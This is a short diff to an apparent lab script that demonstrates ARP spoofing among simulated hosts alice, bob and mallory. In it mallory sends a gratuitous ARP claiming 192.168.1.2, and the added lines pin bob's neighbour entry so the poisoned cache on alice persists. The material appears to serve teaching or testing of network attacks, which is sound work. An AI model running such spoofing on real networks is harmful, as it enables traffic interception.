@@ -3,6 +3,8 @@ attack() {
     on mallory 'arping -q -A -c 1 -I eth0 192.168.1.2'
     on alice 'ip neigh show 192.168.1.2 | cut -d" " -f1-5'
 }
+# Otherwise bob asks after alice some seconds later, and his question tells her the truth again.
+setup bob 'ip neigh replace 192.168.1.1 lladdr 02:00:00:00:00:0a nud permanent dev eth0'
 setup mallory 'sysctl -w net.ipv4.ip_nonlocal_bind=1'
 setup alice 'ping -q -c 1 192.168.1.2'
 attack
